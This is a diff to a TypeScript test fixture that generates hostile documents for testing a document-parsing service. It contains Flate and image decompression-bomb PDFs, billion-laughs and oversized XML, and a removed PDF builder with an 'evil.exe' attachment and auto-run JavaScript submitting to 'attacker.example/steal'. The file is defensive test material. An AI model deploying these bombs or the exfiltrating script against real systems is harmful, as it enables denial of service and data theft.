@@ -5,130 +5,15 @@
  * bombs for pdf.js and the image decoder, PDFs that carry embedded files and JavaScript, and
  * XML with XHTML payloads. Each entry names the MIME type a browser would send with it.
  */
-import { createDeflate, crc32, deflateSync } from 'node:zlib';
+import { crc32, deflateSync } from 'node:zlib';
 import { textPdf } from '../declarations.js';
+import { activePdf, hostileXml, imageBombPdf, inflationBombPdf } from '../hostile-files.js';
 
 export interface HostileDocument {
   name: string;
   file: string;
   type: string;
   bytes: Buffer;
-}
-
-const MB = 1024 * 1024;
-
-/** A PDF from raw objects (1-based, in order), with a correct cross-reference table. */
-export function rawPdf(objects: (string | Buffer)[], catalog = 1): Buffer {
-  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n%\xE2\xE3\xCF\xD3\n', 'latin1')];
-  let offset = chunks[0]!.length;
-  const offsets: number[] = [];
-  objects.forEach((body, i) => {
-    offsets.push(offset);
-    const object = Buffer.concat([
-      Buffer.from(`${i + 1} 0 obj\n`),
-      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
-      Buffer.from('\nendobj\n'),
-    ]);
-    chunks.push(object);
-    offset += object.length;
-  });
-  const xref = [
-    'xref',
-    `0 ${objects.length + 1}`,
-    '0000000000 65535 f ',
-    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
-    'trailer',
-    `<< /Size ${objects.length + 1} /Root ${catalog} 0 R >>`,
-    'startxref',
-    String(offset),
-    '%%EOF',
-    '',
-  ].join('\n');
-  return Buffer.concat([...chunks, Buffer.from(xref, 'latin1')]);
-}
-
-/** A stream object: its dictionary entries, then the (already encoded) data. */
-export function streamObject(entries: string, data: Buffer): Buffer {
-  return Buffer.concat([
-    Buffer.from(`<< ${entries} /Length ${data.length} >>\nstream\n`, 'latin1'),
-    data,
-    Buffer.from('\nendstream', 'latin1'),
-  ]);
-}
-
-/** `bytes` of one repeated byte, deflated in pieces so the test never holds them. */
-export function deflatedRun(bytes: number, fill = 0x20): Promise<Buffer> {
-  return new Promise((resolve, reject) => {
-    const deflate = createDeflate({ level: 9 });
-    const out: Buffer[] = [];
-    deflate.on('data', (chunk: Buffer) => out.push(chunk));
-    deflate.on('end', () => resolve(Buffer.concat(out)));
-    deflate.on('error', reject);
-    const piece = Buffer.alloc(64 * MB, fill);
-    for (let left = bytes; left > 0; left -= piece.length)
-      deflate.write(left >= piece.length ? piece : piece.subarray(0, left));
-    deflate.end();
-  });
-}
-
-const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
-
-/** One page whose content is `streams` (each inflating to `inflated` spaces), GBs in all. */
-async function flateBombPdf(streams: number, inflated: number): Promise<Buffer> {
-  const data = await deflatedRun(inflated);
-  const contents = Array.from({ length: streams }, (_, i) => `${5 + i} 0 R`).join(' ');
-  return rawPdf([
-    '<< /Type /Catalog /Pages 2 0 R >>',
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents [${contents}] >>`,
-    HELVETICA,
-    ...Array.from({ length: streams }, () => streamObject('/Filter /FlateDecode', data)),
-  ]);
-}
-
-/** A page with no text and `count` large Flate images: drawn for OCR, each decoded in full. */
-async function imageBombPdf(count: number, side: number): Promise<Buffer> {
-  const pixels = await deflatedRun(side * side * 3, 0xff);
-  const names = Array.from({ length: count }, (_, i) => `/Im${i} ${4 + i} 0 R`).join(' ');
-  const draw = Array.from({ length: count }, (_, i) => `q 595 0 0 842 0 0 cm /Im${i} Do Q`).join(
-    '\n',
-  );
-  return rawPdf([
-    '<< /Type /Catalog /Pages 2 0 R >>',
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << ${names} >> >> /Contents ${4 + count} 0 R >>`,
-    ...Array.from({ length: count }, () =>
-      streamObject(
-        `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode`,
-        pixels,
-      ),
-    ),
-    streamObject('', Buffer.from(draw)),
-  ]);
-}
-
-/** A readable statement that also carries an attachment (itself a Flate bomb) and scripts. */
-async function embeddedFilesPdf(): Promise<Buffer> {
-  const text = Buffer.from(
-    [
-      'BT /F1 12 Tf 56 780 Td (YAGEO Corporation) Tj ET',
-      'BT /F1 12 Tf 56 760 Td (RoHS Declaration of Conformity, Directive 2011/65/EU) Tj ET',
-      'BT /F1 12 Tf 56 740 Td (Part numbers: RC0603FR-07*) Tj ET',
-    ].join('\n'),
-  );
-  const attachment = await deflatedRun(256 * MB);
-  const script = "app.alert('pwned'); this.submitForm('http://attacker.example/steal');";
-  return rawPdf([
-    '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R /AA << /WC 9 0 R >> /Names << /EmbeddedFiles << /Names [(evil.exe) 7 0 R] >> /JavaScript << /Names [(init) 9 0 R] >> >> >>',
-    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [6 0 R] >>',
-    HELVETICA,
-    streamObject('', text),
-    '<< /Type /Annot /Subtype /FileAttachment /Rect [56 600 80 624] /FS 7 0 R /Contents (evil.exe) >>',
-    '<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 8 0 R >> >>',
-    streamObject('/Type /EmbeddedFile /Filter /FlateDecode', attachment),
-    `<< /Type /Action /S /JavaScript /JS (${script}) >>`,
-  ]);
 }
 
 /** A PNG (grey, 8 bit) with a real IHDR and IDAT: white pixels unless `idat` is given. */
@@ -178,30 +63,6 @@ const IPC_HEAD =
 /** An IPC-1752A declaration whose `<Product>` holds `body`. */
 const ipc = (body: string, head = IPC_HEAD) =>
   Buffer.from(`${head}<Product>${body}</Product>\n</MainDeclaration>\n`);
-
-function manyAttributesXml(count: number): Buffer {
-  const perElement = 1000;
-  const elements: string[] = [];
-  for (let e = 0; e < count / perElement; e++) {
-    const attributes = Array.from({ length: perElement }, (_, a) => ` a${a}="${e}"`).join('');
-    elements.push(`<ProductID itemNumber="RC0603FR-07${e}KL"${attributes}/>`);
-  }
-  return ipc(elements.join('\n'));
-}
-
-function tinyElementsXml(count: number): Buffer {
-  return ipc(`<ProductID itemNumber="RC0603FR-0710KL"/>${'<a/>'.repeat(count)}`);
-}
-
-function deepXml(depth: number): Buffer {
-  return ipc(`${'<HomogeneousMaterial>'.repeat(depth)}${'</HomogeneousMaterial>'.repeat(depth)}`);
-}
-
-function wideXml(count: number): Buffer {
-  const material =
-    '<HomogeneousMaterial name="m"><Substance name="Lead"><SubstanceID identity="7439-92-1" authority="CAS"/><Amount value="0" UOM="mg"/></Substance></HomogeneousMaterial>';
-  return ipc(`<ProductID itemNumber="RC0603FR-0710KL"/>${material.repeat(count)}`);
-}
 
 /** Entities nested ten deep, each ten of the one below: 10^10 'lol's if expanded. */
 function billionLaughsXml(): Buffer {
@@ -281,10 +142,14 @@ export async function hostileDocuments(): Promise<HostileDocument[]> {
         ' ( ( ( ( [ [ { '.repeat(2000),
       ]),
     ),
-    // Flate and pixel bombs: the reader's memory, not only its heap.
-    pdf('Flate bomb, 3 GB of content', await flateBombPdf(3, 1024 * MB)),
-    pdf('image bomb, 8 Flate images of 147 MB', await imageBombPdf(8, 7000)),
-    pdf('embedded file and JavaScript', await embeddedFilesPdf()),
+    // Flate and pixel bombs: the reader's memory, not only its heap (test/hostile-files.ts).
+    pdf('Flate bomb, 4 GB of content', inflationBombPdf(4)),
+    pdf('image bomb, 2.7 GB of pixels', imageBombPdf(30_000)),
+    pdf('image of 147 MB, under the pixel cap', imageBombPdf(7000)),
+    pdf(
+      'embedded file and JavaScript',
+      activePdf('YAGEO Corporation RoHS Declaration RC0603FR-07*'),
+    ),
     image(
       'PNG claiming 100000 × 100000',
       'image/png',
@@ -293,10 +158,10 @@ export async function hostileDocuments(): Promise<HostileDocument[]> {
     image('PNG of 49 megapixels', 'image/png', png(7000, 7000)),
     image('JPEG claiming 65000 × 65000', 'image/jpeg', jpegClaiming(65_000, 65_000)),
     // XML: the IPC-1752A parser.
-    xml('300k attributes', manyAttributesXml(300_000)),
-    xml('2M tiny elements', tinyElementsXml(2_000_000)),
-    xml('nested 100k deep', deepXml(100_000)),
-    xml('40k wide materials', wideXml(40_000)),
+    xml('300k attributes', Buffer.from(hostileXml.attributes(300_000))),
+    xml('2M tiny elements', Buffer.from(hostileXml.elements(2_000_000))),
+    xml('nested 100k deep', Buffer.from(hostileXml.nested(100_000))),
+    xml('200k wide exemptions', Buffer.from(hostileXml.wide(200_000))),
     xml('billion laughs', billionLaughsXml()),
     xml('XHTML payload', xhtmlPayloadXml()),
   ];
